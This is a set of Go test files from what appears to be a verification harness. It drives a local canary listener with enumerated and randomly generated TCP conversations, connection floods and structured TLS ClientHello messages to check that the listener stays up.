	var leaves []leaveT
	for _, late := range []bool{false, true} {
		leaves = append(leaves, leaveT{Mode: "fin", Late: late})
		if late {
			leaves = append(leaves, leaveT{Mode: "reset", Late: true})
		}
		for _, rv := range []bool{false, true} {
			leaves = append(leaves, leaveT{Mode: "close-notify", Late: late, RecVerRecords: rv})
			for i := range warningAlerts {
				leaves = append(leaves, leaveT{Mode: "warning-alert", Late: late, Arg: i, RecVerRecords: rv})
			}
			for i := range fatalAlerts {
				leaves = append(leaves, leaveT{Mode: "fatal-alert", Late: late, Arg: i, RecVerRecords: rv})
			}
			for _, k := range []int{1, 4, 5, 6, 9, cutRecordLen - 1} {
				leaves = append(leaves, leaveT{Mode: "mid-record", Late: late, Arg: k - 1, RecVerRecords: rv})
			}
			for _, n := range []int{0, 66, 258} {
				leaves = append(leaves, leaveT{Mode: "wrong-flight", Late: late, Arg: n, RecVerRecords: rv})
			}
		}
	}
	hellos := leaveHellos()
	var names []string
	for n := range hellos {
		names = append(names, n)
	}
	sort.Strings(names)
	shard, shards := r.Shard()
	if shards < 1 {
		shards = 1
	}
	i, violations := 0, 0
	for _, hn := range names {
		for _, lv := range leaves {
			i++
			if i%shards != shard%shards {
				continue
			}
			c := hellos[hn]
			c.Leave = lv
			when := "early"
			if lv.late() {
				when = "late"
			}
			cn := fmt.Sprintf("%s/%s/%s/arg=%d/recver=%v", hn, lv.mode(), when, lv.Arg, lv.RecVerRecords)
			r.Case("enum-leave/"+lv.mode()+"/"+when, "enum-leave/"+cn, func() interface{} { return leaveCase{cn, c} })
			o, err := checkHello(c)
			if err != nil {
				if strings.HasPrefix(err.Error(), "infra:") {
					t.Fatalf("%v", err)
				}
				r.Violation(t, name, leaveCase{cn, c}, err.Error())
				if violations++; violations >= 3 {
					return // enough to report; every further one costs the grace period
				}
				continue
			}
			if o.compared > 0 {
				r.Label(fmt.Sprintf("outcome/digest-compared/v=%04x", c.Ver), int64(o.compared))
			}
			labelLeave(r, c, o)
		}
	}
}
