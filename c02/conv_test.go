//go:build verif && linux
// +build verif,linux

package c02

// Stateful sequences: well-formed TCP conversations from one 4-tuple (handshake, first
// flight, FIN ...) followed by arbitrary flag / sequence-number continuations
// (retransmissions, data after FIN, RST, duplicate SYN, out-of-window segments), played
// through the real Start() loop. Between frames the harness waits until the loop has
// taken the frame and every handler goroutine is parked (canarylab Rest barrier), so a
// handler that must run before the next segment does run; a step can also be sent without
// that wait. The peer learns the listener's sequence number through the hook (the
// SYN-ACK cannot leave through a socketpair). Oracle unchanged: child alive + probe event.

import (
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	cl "verif/canarylab"
	"verif/vlib"
)

type convStep struct {
	Flags  byte  `json:"flags"`
	SeqOff int64 `json:"seq_off"` // relative to the next in-order sequence number
	AckOff int64 `json:"ack_off"` // relative to the listener's ISS+2 (first byte after its SYN)
	Len    int   `json:"len"`
	NoRest bool  `json:"no_rest,omitempty"` // do not wait for the loop / handlers before this frame
	// Data: the segment's payload (hex, Len bytes); empty: Len pattern bytes
	Data string `json:"data_hex,omitempty"`
}

type conversation struct {
	Sport     uint16     `json:"sport"`
	Dport     uint16     `json:"dport"`
	ISN       uint32     `json:"isn"`
	Handshake string     `json:"handshake"` // full | syn | none
	Steps     []convStep `json:"steps"`
	Note      string     `json:"note,omitempty"`
}

type convCase struct {
	Tables string         `json:"tables"`
	Convs  []conversation `json:"conversations"`
}

// play sends one conversation to k. It returns false when the child went away.
func play(l cl.Local, k *cl.Canary, c conversation) bool {
	send := func(f cl.TCPFields) bool {
		f.Sport, f.Dport, f.DataOff = c.Sport, c.Dport, -1
		return k.Send(l.TCPFrame(peer, f)) == nil
	}
	var iss uint32
	if c.Handshake != "none" {
		if !send(cl.TCPFields{Seq: c.ISN, Flags: cl.SYN, Options: []byte{2, 4, 5, 0xb4}}) || k.Rest() != nil {
			return false
		}
		v, _, ok, err := k.ConnState(peer.IP, c.Sport, l.IP, c.Dport)
		if err != nil {
			return false
		}
		if ok {
			iss = v
		}
		if c.Handshake == "full" {
			if !send(cl.TCPFields{Seq: c.ISN + 1, Ack: iss + 2, Flags: cl.ACK}) || k.Rest() != nil {
				return false
			}
		}
	}
	next := c.ISN + 1
	for _, st := range c.Steps {
		if !st.NoRest {
			if k.Rest() != nil {
				return false
			}
		}
		f := cl.TCPFields{Seq: next + uint32(st.SeqOff), Ack: iss + 2 + uint32(st.AckOff), Flags: st.Flags}
		if st.Len > 0 {
			f.Payload = pad(st.Len, byte(st.Len))
			if d, err := hex.DecodeString(st.Data); err == nil && len(d) == st.Len {
				f.Payload = d
			}
		}
		if !send(f) {
			return false
		}
		if st.SeqOff == 0 {
			next += uint32(st.Len)
			if st.Flags&cl.FIN != 0 {
				next++
			}
		}
	}
	return k.Rest() == nil
}

func runConvs(l cl.Local, c convCase, wait time.Duration) (verdict error, infra error) {
	cfg, err := tables(c.Tables, l)
	if err != nil {
		return nil, err
	}
	ch, err := cl.StartChild()
	if err != nil {
		return nil, err
	}
	defer ch.Kill()
	k, err := ch.New(cfg)
	if err != nil {
		return nil, fmt.Errorf("cannot create canary: %v", err)
	}
	for _, cv := range c.Convs {
		if !play(l, k, cv) {
			if !ch.Dead() && !ch.WaitDead(200*time.Millisecond) {
				return nil, fmt.Errorf("barrier or command failed while the child is alive (conversation %s)", vlib.JSON(cv))
			}
			break
		}
	}
	if !ch.Dead() {
		if err := k.Rest(); err != nil && !ch.Dead() {
			// the loop never came to rest: let the probe decide
			_ = err
		}
	}
	return feed(l, ch, k, nil, wait), nil
}

func confirmConvs(r *vlib.Run, l cl.Local, c convCase) (error, error) {
	e1, infra := runConvs(l, c, 20*time.Second)
	if infra != nil || e1 == nil {
		return e1, infra
	}
	e2, infra := runConvs(l, c, 20*time.Second)
	if infra != nil {
		return nil, infra
	}
	if e2 == nil {
		r.Flaky(fmt.Sprintf("C02 conversation failed once and passed on re-run: %v", e1))
		return nil, nil
	}
	return e2, nil
}

// sweepConvs runs the conversations in groups on one listener each; a group that fails is
// taken apart conversation by conversation.
func sweepConvs(t *testing.T, r *vlib.Run, l cl.Local, test string, convs []conversation, seen map[string]bool) {
	const group = 60
	for len(convs) > 0 && len(seen) < 4 {
		n := group
		if n > len(convs) {
			n = len(convs)
		}
		part := convs[:n]
		convs = convs[n:]
		verr, infra := runConvs(l, convCase{Tables: "arp", Convs: part}, 20*time.Second)
		if infra != nil {
			t.Fatalf("infra: %v", infra)
		}
		if verr == nil {
			continue
		}
		found := false
		for _, cv := range part {
			c := convCase{Tables: "arp", Convs: []conversation{cv}}
			e, infra := confirmConvs(r, l, c)
			if infra != nil {
				t.Fatalf("infra: %v", infra)
			}
			if e != nil {
				found = true
				if sig := signature(e.Error()); !seen[sig] {
					seen[sig] = true
					r.Violation(t, test, c, e.Error())
				}
				if len(seen) >= 4 {
					break
				}
			}
		}
		if !found {
			// needs the history of the group
			c := convCase{Tables: "arp", Convs: part}
			e, infra := confirmConvs(r, l, c)
			if infra != nil {
				t.Fatalf("infra: %v", infra)
			}
			if e != nil {
				if sig := signature(e.Error()); !seen[sig] {
					seen[sig] = true
					r.Violation(t, test, c, e.Error())
				}
			}
		}
	}
}

type contClass struct {
	name string
	mk   func(finSent bool, lastLen int) convStep
}

var continuations = []contClass{
	{"ack", func(bool, int) convStep { return convStep{Flags: cl.ACK} }},
	{"ack-of-listener-fin", func(bool, int) convStep { return convStep{Flags: cl.ACK, AckOff: 1} }},
	{"psh-ack-empty", func(bool, int) convStep { return convStep{Flags: cl.PSH | cl.ACK} }},
	{"psh-ack-data", func(bool, int) convStep { return convStep{Flags: cl.PSH | cl.ACK, Len: 5} }},
	{"ack-data", func(bool, int) convStep { return convStep{Flags: cl.ACK, Len: 3} }},
	{"fin-ack", func(bool, int) convStep { return convStep{Flags: cl.FIN | cl.ACK} }},
	{"fin-psh-ack-retransmitted", func(fin bool, _ int) convStep {
		if fin {
			return convStep{Flags: cl.FIN | cl.PSH | cl.ACK, SeqOff: -1}
		}
		return convStep{Flags: cl.FIN | cl.PSH | cl.ACK}
	}},
	{"data-retransmitted", func(_ bool, last int) convStep {
		if last == 0 {
			last = 4
		}
		return convStep{Flags: cl.PSH | cl.ACK, SeqOff: -int64(last), Len: last}
	}},
	{"rst", func(bool, int) convStep { return convStep{Flags: cl.RST} }},
	{"rst-ack", func(bool, int) convStep { return convStep{Flags: cl.RST | cl.ACK} }},
	{"syn-duplicate", func(bool, int) convStep { return convStep{Flags: cl.SYN, SeqOff: -1} }},
	{"syn-ack", func(bool, int) convStep { return convStep{Flags: cl.SYN | cl.ACK} }},
	{"out-of-window", func(bool, int) convStep { return convStep{Flags: cl.PSH | cl.ACK, SeqOff: 1 << 20, Len: 7} }},
	{"old-sequence", func(bool, int) convStep { return convStep{Flags: cl.ACK, SeqOff: -1000, Len: 2} }},
	{"bad-ack-number", func(bool, int) convStep { return convStep{Flags: cl.PSH | cl.ACK, AckOff: 1 << 31, Len: 1} }},
	{"urg-psh-ack", func(bool, int) convStep { return convStep{Flags: cl.URG | cl.PSH | cl.ACK, Len: 2} }},
	{"no-flags", func(bool, int) convStep { return convStep{Len: 1} }},
}

type prefixClass struct {
	name  string
	steps []convStep
}

var prefixes = []prefixClass{
	{"established", nil},
	{"data-pushed", []convStep{{Flags: cl.PSH | cl.ACK, Len: 12}}},                                       // handler reads, closes first
	{"data-unpushed", []convStep{{Flags: cl.ACK, Len: 12}}},                                              // handler stays in its read
	{"fin", []convStep{{Flags: cl.FIN | cl.ACK}}},                                                        // peer closes first, no data
	{"data-fin", []convStep{{Flags: cl.FIN | cl.PSH | cl.ACK, Len: 9}}},                                  // FIN on the first flight
	{"data-then-fin", []convStep{{Flags: cl.PSH | cl.ACK, Len: 6}, {Flags: cl.FIN | cl.ACK, AckOff: 1}}}, // orderly close
}

func shapeConversations() (out []conversation, labels []string) {
	sport := uint16(10000)
	for _, dport := range []uint16{8080, 80, 23} {
		for _, p := range prefixes {
			for _, a := range continuations {
				for _, b := range continuations {
					cv := conversation{Sport: sport, Dport: dport, ISN: uint32(sport) * 65537, Handshake: "full", Note: fmt.Sprintf("%s,%s,%s", p.name, a.name, b.name)}
					sport++
					if sport == 22 || sport < 1024 {
						sport = 1024
					}
					fin := false
					last := 0
					for _, s := range p.steps {
						cv.Steps = append(cv.Steps, s)
						if s.Flags&cl.FIN != 0 {
							fin = true
						}
						last = s.Len
					}
					sa := a.mk(fin, last)
					if sa.Flags&cl.FIN != 0 && sa.SeqOff == 0 {
						fin = true
					}
					if sa.SeqOff == 0 && sa.Len > 0 {
						last = sa.Len
					}
					cv.Steps = append(cv.Steps, sa, b.mk(fin, last))
					out = append(out, cv)
					labels = append(labels, fmt.Sprintf("conversation/%s/dport=%d", p.name, dport))
				}
			}
		}
	}
	// conversations that never complete the handshake
	for _, a := range continuations {
		for _, hs := range []string{"syn", "none"} {
			cv := conversation{Sport: sport, Dport: 8080, ISN: 77, Handshake: hs, Steps: []convStep{a.mk(false, 0), a.mk(false, 0)}, Note: hs + "," + a.name}
			sport++
			out = append(out, cv)
			labels = append(labels, "conversation/handshake="+hs)
		}
	}
	return out, labels
}

func TestConversations(t *testing.T) {
	r := vlib.Open(prop)
	var c convCase
	if vlib.ReplayCase("TestConversations", &c) {
		l := env(t)
		e, infra := confirmConvs(r, l, c)
		if infra != nil {
			t.Fatalf("infra: %v", infra)
		}
		if e != nil {
			r.Violation(t, "TestConversations", c, e.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	l := env(t)
	r.Rule(ruleText)
	r.Rule("conversations: full handshake from one 4-tuple (the peer reads the listener's sequence number through the hook) + a prefix {nothing, pushed data, unpushed data, FIN, data+FIN, orderly close} + every ordered pair of 17 continuation classes (bare/pushing ACKs, data, FIN, retransmitted FIN|PSH|ACK and data, RST, duplicate SYN, SYN|ACK, out-of-window / old sequence numbers, bad ack number, URG, no flags) to an undecoded and two decoded ports, with a barrier (loop idle, handlers parked) before each frame, plus rapid-drawn continuations with and without barriers; non-trivial = the conversation completed its handshake (listener state existed)")
	all, labels := shapeConversations()
	si, sn := r.Shard()
	var mine []conversation
	for i, cv := range all {
		if i%sn != si {
			continue
		}
		cv := cv
		mine = append(mine, cv)
		fp := cv.Note
		if cv.Handshake != "full" {
			fp = ""
		}
		r.Case(labels[i], fmt.Sprintf("%d/%s", cv.Dport, fp), func() interface{} { return cv })
	}
	sweepConvs(t, r, l, "TestConversations", mine, map[string]bool{})
}

func TestRandomConversations(t *testing.T) {
	r := vlib.Open(prop)
	var c convCase
	if vlib.ReplayCase("TestRandomConversations", &c) {
		l := env(t)
		e, infra := confirmConvs(r, l, c)
		if infra != nil {
			t.Fatalf("infra: %v", infra)
		}
		if e != nil {
			r.Violation(t, "TestRandomConversations", c, e.Error())
		}
		return
	}
	l := env(t)
	r.Rule(ruleText)
	box := &cl.Infra{}
	r.Rapid(t, "TestRandomConversations", r.Pick(25, 400), func(rt *rapid.T) {
		if box.Err() != nil {
			rapid.Bool().Draw(rt, "skipped-after-infra-error")
			return
		}
		n := rapid.IntRange(1, 12).Draw(rt, "conversations")
		var convs []conversation
		for i := 0; i < n; i++ {
			cv := conversation{
				Sport:     uint16(20000 + i),
				Dport:     rapid.SampledFrom([]uint16{8080, 80, 23, 443, 6379, 9200, 1}).Draw(rt, "dport"),
				ISN:       rapid.SampledFrom([]uint32{0, 1, 1<<31 - 1, 1<<32 - 2, 1<<32 - 1, 123456789}).Draw(rt, "isn"),
				Handshake: rapid.SampledFrom([]string{"full", "full", "full", "full", "syn", "none"}).Draw(rt, "handshake"),
			}
			if rapid.Bool().Draw(rt, "same-tuple") && i > 0 {
				cv.Sport = convs[i-1].Sport // a new conversation on the tuple of the previous one
				cv.Dport = convs[i-1].Dport
			}
			steps := rapid.IntRange(1, 8).Draw(rt, "steps")
			for s := 0; s < steps; s++ {
				st := convStep{
					Flags:  rapid.SampledFrom([]byte{cl.ACK, cl.PSH | cl.ACK, cl.FIN | cl.ACK, cl.FIN | cl.PSH | cl.ACK, cl.RST, cl.RST | cl.ACK, cl.SYN, cl.SYN | cl.ACK, 0, cl.URG | cl.ACK, 0x3f}).Draw(rt, "flags"),
					SeqOff: rapid.SampledFrom([]int64{0, 0, 0, 0, -1, 1, -5, 1 << 16, 1 << 31, -(1 << 20)}).Draw(rt, "seq"),
					AckOff: rapid.SampledFrom([]int64{0, 0, 0, 1, 1, -1, 50, 1 << 31}).Draw(rt, "ack"),
					Len:    rapid.SampledFrom([]int{0, 0, 1, 2, 5, 100, 1460}).Draw(rt, "len"),
					NoRest: rapid.IntRange(0, 3).Draw(rt, "no-rest") == 0,
				}
				if rapid.IntRange(0, 9).Draw(rt, "any-flags") == 0 {
					st.Flags = rapid.Byte().Draw(rt, "flag-byte") & 0x3f
				}
				cv.Steps = append(cv.Steps, st)
			}
			convs = append(convs, cv)
			fp := ""
			if cv.Handshake == "full" {
				fp = vlib.JSON(cv)
			}
			cvc := cv
			r.Case("conversation/random/handshake="+cv.Handshake, fp, func() interface{} { return cvc })
		}
		c := convCase{Tables: "arp", Convs: convs}
		verr, infra := runConvs(l, c, 20*time.Second)
		if infra != nil {
			box.Set(infra)
			return
		}
		if verr != nil {
			cerr, infra := confirmConvs(r, l, c)
			if infra != nil {
				box.Set(infra)
				return
			}
			if cerr != nil {
				r.Fail(rt, "TestRandomConversations", c, "%s", strings.TrimSpace(cerr.Error()))
			}
		}
	})
	if e := box.Err(); e != nil {
		t.Fatalf("infra: %v", e)
	}
}

// ---------------------------------------------------------------------------------
// floods of complete connections: many short conversations on one listener. Every
// connection makes the listener queue replies (SYN-ACK, acknowledgements, its FIN, the port
// handler's output); behind a transmit path that does not get rid of them as fast as they
// are queued (a socketpair cannot send at all, an interface under load only sometimes)
// the transmit ring and the state table carry the history of all earlier connections.

type connFlood struct {
	Tables string     `json:"tables"`
	Conns  int        `json:"conns"`
	Batch  int        `json:"batch"` // connections opened together: their frames interleave
	Dport  uint16     `json:"dport"`
	Script []convStep `json:"script"` // after the full handshake, the same for every connection
	Note   string     `json:"note,omitempty"`
}

func runConnFlood(l cl.Local, c connFlood, wait time.Duration) (verdict error, infra error) {
	cfg, err := tables(c.Tables, l)
	if err != nil {
		return nil, err
	}
	if c.Batch < 1 || c.Conns < 1 || c.Conns > 60000 {
		return nil, fmt.Errorf("bad connection flood %s", vlib.JSON(c))
	}
	ch, err := cl.StartChild()
	if err != nil {
		return nil, err
	}
	defer ch.Kill()
	k, err := ch.New(cfg)
	if err != nil {
		return nil, fmt.Errorf("cannot create canary: %v", err)
	}
	type conn struct {
		sport     uint16
		isn, next uint32
		iss       uint32
	}
	frame := func(cn *conn, f cl.TCPFields) []byte {
		f.Sport, f.Dport, f.DataOff = cn.sport, c.Dport, -1
		return l.TCPFrame(peer, f)
	}
	// a step that cannot be delivered or a barrier that is never reached ends the
	// history; the probe decides
	ok := func(e error) bool { return e == nil && !k.Stalled() && !ch.Dead() }
play:
	for base := 0; base < c.Conns; base += c.Batch {
		n := c.Batch
		if base+n > c.Conns {
			n = c.Conns - base
		}
		conns := make([]*conn, n)
		var fr [][]byte
		for i := range conns {
			cn := &conn{sport: uint16(1024 + base + i), isn: uint32(base+i)*7919 + 1}
			cn.next = cn.isn + 1
			conns[i] = cn
			fr = append(fr, frame(cn, cl.TCPFields{Seq: cn.isn, Flags: cl.SYN, Options: []byte{2, 4, 5, 0xb4}}))
		}
		if !ok(k.SendMany(fr)) || !ok(k.Drained()) {
			break play
		}
		fr = fr[:0]
		for i, cn := range conns {
			// the loop may still be handling the last SYN it took: ask again for a moment
			for try := 0; ; try++ {
				v, _, found, err := k.ConnState(peer.IP, cn.sport, l.IP, c.Dport)
				if err != nil {
					break play
				}
				if found {
					cn.iss = v
				}
				if found || i < len(conns)-1 || try >= 50 {
					break
				}
				time.Sleep(time.Millisecond)
			}
			fr = append(fr, frame(cn, cl.TCPFields{Seq: cn.next, Ack: cn.iss + 2, Flags: cl.ACK}))
		}
		if !ok(k.SendMany(fr)) || !ok(k.Drained()) {
			break play
		}
		for _, st := range c.Script {
			fr = fr[:0]
			for _, cn := range conns {
				f := cl.TCPFields{Seq: cn.next + uint32(st.SeqOff), Ack: cn.iss + 2 + uint32(st.AckOff), Flags: st.Flags}
				if st.Len > 0 {
					f.Payload = pad(st.Len, byte(st.Len))
				}
				fr = append(fr, frame(cn, f))
				if st.SeqOff == 0 {
					cn.next += uint32(st.Len)
					if st.Flags&cl.FIN != 0 {
						cn.next++
					}
				}
			}
			if !ok(k.SendMany(fr)) {
				break play
			}
			if !st.NoRest && !ok(k.Drained()) {
				break play
			}
		}
	}
	return feed(l, ch, k, nil, wait), nil
}

func genConnFlood(rt *rapid.T) connFlood {
	c := connFlood{
		Tables: rapid.SampledFrom([]string{"arp", "arp", "gateway", "gateway-noarp", "noroute", "empty"}).Draw(rt, "tables"),
		// around what the 65,535-byte transmit ring holds in header-only replies (1,170), and beyond
		Conns: rapid.SampledFrom([]int{40, 400, 1170, 1500, 2500, 4000}).Draw(rt, "connections"),
		Batch: rapid.SampledFrom([]int{1, 16, 64, 256}).Draw(rt, "batch"),
		Dport: rapid.SampledFrom([]uint16{8080, 8080, 80, 23, 6379, 1}).Draw(rt, "dport"),
	}
	if c.Batch == 1 && c.Conns > 1500 {
		c.Batch = 16
	}
	p := rapid.SampledFrom(prefixes).Draw(rt, "prefix")
	c.Note = p.name
	fin := false
	last := 0
	for _, s := range p.steps {
		c.Script = append(c.Script, s)
		fin = fin || s.Flags&cl.FIN != 0
		last = s.Len
	}
	for n := rapid.IntRange(0, 2).Draw(rt, "continuations"); n > 0; n-- {
		a := rapid.SampledFrom(continuations).Draw(rt, "continuation")
		st := a.mk(fin, last)
		st.NoRest = rapid.Bool().Draw(rt, "no-rest")
		if st.Flags&cl.FIN != 0 && st.SeqOff == 0 {
			fin = true
		}
		if st.SeqOff == 0 && st.Len > 0 {
			last = st.Len
		}
		c.Script = append(c.Script, st)
		c.Note += "," + a.name
	}
	return c
}

// checkConnFlood: a failure counts when it happens again on a fresh listener.
func checkConnFlood(r *vlib.Run, l cl.Local, c connFlood) (error, error) {
	e1, infra := runConnFlood(l, c, 10*time.Second)
	if infra != nil || e1 == nil {
		return nil, infra
	}
	e2, infra := runConnFlood(l, c, 10*time.Second)
	if infra != nil {
		return nil, infra
	}
	if e2 == nil {
		r.Flaky(fmt.Sprintf("C02 connection flood failed once and passed on re-run: %v", e1))
		return nil, nil
	}
	return fmt.Errorf("after %d complete connections (%s) to port %d: %v", c.Conns, c.Note, c.Dport, e2), nil
}

const floodRule = "floods of complete connections: 40..4,000 connections (the transmit ring holds 1,170 header-only replies) from one peer with tables {arp, gateway, gateway-noarp, noroute, empty}, opened 1/16/64/256 at a time (frames of a batch interleave), each a full handshake (the peer reads the listener's sequence number through the hook) + a prefix {nothing, pushed data, unpushed data, FIN, data+FIN, orderly close} + 0..2 continuation classes, the next step sent when the loop has taken the previous one or at once, to decoded and undecoded ports; every prefix also as a fixed 3,000-connection flood; then the probe. non-trivial = >= 40 connections completed their handshake; distinct by (tables, connections, batch, port, script)"

func TestConnectionFloods(t *testing.T) {
	r := vlib.Open(prop)
	var rc connFlood
	if vlib.ReplayCase("TestConnectionFloods", &rc) {
		l := env(t)
		e, infra := checkConnFlood(r, l, rc)
		if infra != nil {
			t.Fatalf("infra: %v", infra)
		}
		if e != nil {
			r.Violation(t, "TestConnectionFloods", rc, e.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	l := env(t)
	r.Rule(ruleText)
	r.Rule(floodRule)
	si, sn := r.Shard()
	reported := false
	try := func(c connFlood, kind string) error {
		if reported {
			return nil
		}
		r.Case("connflood/"+kind+"/"+c.Tables, vlib.JSON(c), func() interface{} { return c })
		t0 := time.Now()
		e, infra := checkConnFlood(r, l, c)
		if infra != nil {
			return infra
		}
		r.Note("flood of %d complete connections (%s, %s, batch %d) + probe took %.1fs", c.Conns, c.Note, c.Tables, c.Batch, time.Since(t0).Seconds())
		if e != nil {
			reported = true
			r.Violation(t, "TestConnectionFloods", c, e.Error())
		}
		return nil
	}
	// fixed: every prefix class as a flood well beyond the transmit ring's capacity
	for i, p := range prefixes {
		if (i+5)%sn != si { // the SYN floods occupy the low shards
			continue
		}
		if err := try(connFlood{Tables: "arp", Conns: r.Pick(3000, 8000), Batch: 64, Dport: 8080, Script: p.steps, Note: p.name}, "fixed"); err != nil {
			t.Fatalf("infra: %v", err)
		}
	}
	box := &cl.Infra{}
	r.Rapid(t, "TestConnectionFloods", r.Pick(3, 16), func(rt *rapid.T) {
		if box.Err() != nil || reported {
			rapid.Bool().Draw(rt, "skipped")
			return
		}
		if err := try(genConnFlood(rt), "drawn"); err != nil {
			box.Set(err)
		}
	})
	if e := box.Err(); e != nil {
		t.Fatalf("infra: %v", e)
	}
}
