package c13

// Structural ClientHello generator and the harness's own record / handshake encoder.

import (
	"fmt"

	"pgregory.net/rapid"

	"verif/vlib"
)

type ext struct {
	Type uint16 `json:"type"`
	Body string `json:"body_hex"`
	Kind string `json:"kind"` // sni | groups | points | known | unknown | grease | dup
}

type helloCase struct {
	RecVer      uint16   `json:"record_version"`
	Ver         uint16   `json:"hello_version"`
	Random      string   `json:"random_hex"`
	SessionID   string   `json:"session_id_hex"`
	Ciphers     []uint16 `json:"ciphers"`
	Compression []int    `json:"compression"`
	ExtBlock    bool     `json:"ext_block"` // with zero extensions: emit an empty extensions block (true) or none
	Exts        []ext    `json:"exts"`
	RecCuts     []int    `json:"rec_cuts"` // cut points inside the handshake message -> one TLS record per piece
	TCPCuts     []int    `json:"tcp_cuts"` // cut points inside the byte stream -> one server Read segment per piece
	Regrease    []int    `json:"regrease"` // high nibbles used, in order, for the GREASE values of the second hello
	Leave       leaveT   `json:"leave"`    // how the client abandons the handshake once its hello is out
}

// leaveT is the point / manner in which the client abandons the handshake after the
// complete hello has been written. The zero value is what every case did before the
// dimension existed: FIN right behind the hello.
type leaveT struct {
	Mode string `json:"mode,omitempty"` // "" | fin | close-notify | warning-alert | fatal-alert | mid-record | reset | wrong-flight
	// Late: first wait until the server has consumed the hello and is reading again (it has
	// answered with its flight up to ServerHelloDone, or refused); otherwise what the client
	// does next is queued right behind the hello. reset always waits (an abort discards
	// queued bytes, the hello would not have been sent).
	Late bool `json:"late,omitempty"`
	// Arg: alert description index / number of bytes of the cut record / length of the bogus key exchange
	Arg int `json:"arg,omitempty"`
	// RecVerRecords: the records after the hello carry the hello's record-layer version
	// instead of the hello's legacy version (= the version a serving stack negotiates)
	RecVerRecords bool `json:"recver_records,omitempty"`
}

var leaveModes = []string{"fin", "close-notify", "warning-alert", "fatal-alert", "mid-record", "reset", "wrong-flight"}

// alert descriptions a client may send at this point (RFC 5246 7.2)
var fatalAlerts = []byte{40, 42, 43, 44, 45, 46, 48, 49, 70, 71, 80, 10, 20, 47, 50, 0, 90}
var warningAlerts = []byte{90, 100, 41, 112, 255}

func (l leaveT) mode() string {
	if l.Mode == "" {
		return "fin"
	}
	return l.Mode
}

func (l leaveT) late() bool { return l.Late || l.mode() == "reset" }

func record(typ byte, ver uint16, body []byte) []byte {
	out := []byte{typ}
	out = append(out, be16(int(ver))...)
	out = append(out, be16(len(body))...)
	return append(out, body...)
}

func filler(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(i*7 + 3)
	}
	return b
}

// cutRecordLen is the size of the record "mid-record" delivers a proper prefix of.
const cutRecordLen = 5 + 4 + 66

// leaveBytes is what the client still writes after its hello (nothing for fin / reset).
func (c helloCase) leaveBytes() [][]byte {
	l := c.Leave
	ver := c.Ver
	if l.RecVerRecords {
		ver = c.RecVer
	}
	arg := l.Arg
	if arg < 0 {
		arg = -arg
	}
	cke := func(n int) []byte {
		return record(22, ver, append([]byte{16, byte(n >> 16), byte(n >> 8), byte(n)}, filler(n)...))
	}
	switch l.mode() {
	case "close-notify":
		return [][]byte{record(21, ver, []byte{1, 0})}
	case "warning-alert":
		return [][]byte{record(21, ver, []byte{1, warningAlerts[arg%len(warningAlerts)]})}
	case "fatal-alert":
		return [][]byte{record(21, ver, []byte{2, fatalAlerts[arg%len(fatalAlerts)]})}
	case "mid-record":
		full := cke(66)
		k := 1 + arg%(len(full)-1) // 1 .. len-1: never the whole record
		return [][]byte{full[:k]}
	case "wrong-flight":
		return [][]byte{cke(arg % 600), record(20, ver, []byte{1}), record(22, ver, filler(40))}
	}
	return nil
}

var sniNames = []string{"example.com", "a.test", "honey.trap.example.org", "Login.Example.COM"}

// extension types whose bodies the vendored stack parses (a body must be well-formed)
var structured = map[uint16]bool{0: true, 5: true, 10: true, 11: true, 13: true, 16: true, 18: true, 35: true, 13172: true, 0xff01: true}

func be16(v int) []byte { return []byte{byte(v >> 8), byte(v)} }

func sniBody(name string) []byte {
	b := be16(len(name) + 3)
	b = append(b, 0)
	b = append(b, be16(len(name))...)
	return append(b, name...)
}

func groupsBody(vs []uint16) []byte {
	b := be16(2 * len(vs))
	for _, v := range vs {
		b = append(b, be16(int(v))...)
	}
	return b
}

func pointsBody(ps []uint8) []byte {
	return append([]byte{byte(len(ps))}, ps...)
}

// handshake builds the client_hello handshake message.
func (c helloCase) handshake() []byte {
	var b []byte
	b = append(b, be16(int(c.Ver))...)
	rnd := vlib.UnHex(c.Random)
	for len(rnd) < 32 {
		rnd = append(rnd, 0)
	}
	b = append(b, rnd[:32]...)
	sid := vlib.UnHex(c.SessionID)
	b = append(b, byte(len(sid)))
	b = append(b, sid...)
	b = append(b, be16(2*len(c.Ciphers))...)
	for _, cs := range c.Ciphers {
		b = append(b, be16(int(cs))...)
	}
	b = append(b, byte(len(c.Compression)))
	for _, m := range c.Compression {
		b = append(b, byte(m))
	}
	if len(c.Exts) > 0 || c.ExtBlock {
		var eb []byte
		for _, e := range c.Exts {
			body := vlib.UnHex(e.Body)
			eb = append(eb, be16(int(e.Type))...)
			eb = append(eb, be16(len(body))...)
			eb = append(eb, body...)
		}
		b = append(b, be16(len(eb))...)
		b = append(b, eb...)
	}
	out := []byte{1, byte(len(b) >> 16), byte(len(b) >> 8), byte(len(b))}
	return append(out, b...)
}

func pieces(p []byte, cuts []int) [][]byte {
	var out [][]byte
	last := 0
	for _, cut := range cuts {
		if cut > last && cut < len(p) {
			out = append(out, p[last:cut])
			last = cut
		}
	}
	if last < len(p) {
		out = append(out, p[last:])
	}
	return out
}

// stream wraps the handshake message into TLS records (one per piece; a piece larger
// than 2^14 is split further).
func (c helloCase) stream() []byte {
	var out []byte
	for _, p := range pieces(c.handshake(), c.RecCuts) {
		for len(p) > 0 {
			n := len(p)
			if n > 16384 {
				n = 16384
			}
			out = append(out, 22)
			out = append(out, be16(int(c.RecVer))...)
			out = append(out, be16(n)...)
			out = append(out, p[:n]...)
			p = p[n:]
		}
	}
	return out
}

func (c helloCase) chunks() [][]byte { return pieces(c.stream(), c.TCPCuts) }

// regreased returns the hello with every GREASE value (cipher suites, extension types,
// named groups) replaced by another GREASE value drawn by the generator; nothing else
// changes. Fragmentation is kept.
func (c helloCase) regreased() helloCase {
	d := c
	k := 0
	next := func(old uint16) uint16 {
		var n uint8
		if k < len(c.Regrease) {
			n = uint8(c.Regrease[k]) & 0x0f
		} else {
			n = (uint8(old>>12) + 1 + uint8(k)) & 0x0f
		}
		k++
		v := uint16(n)<<4 | 0x0a
		return v<<8 | v
	}
	d.Ciphers = append([]uint16(nil), c.Ciphers...)
	for i, v := range d.Ciphers {
		if isGREASE(v) {
			d.Ciphers[i] = next(v)
		}
	}
	d.Exts = append([]ext(nil), c.Exts...)
	for i, e := range d.Exts {
		if isGREASE(e.Type) {
			d.Exts[i].Type = next(e.Type)
		}
		if e.Type == 10 {
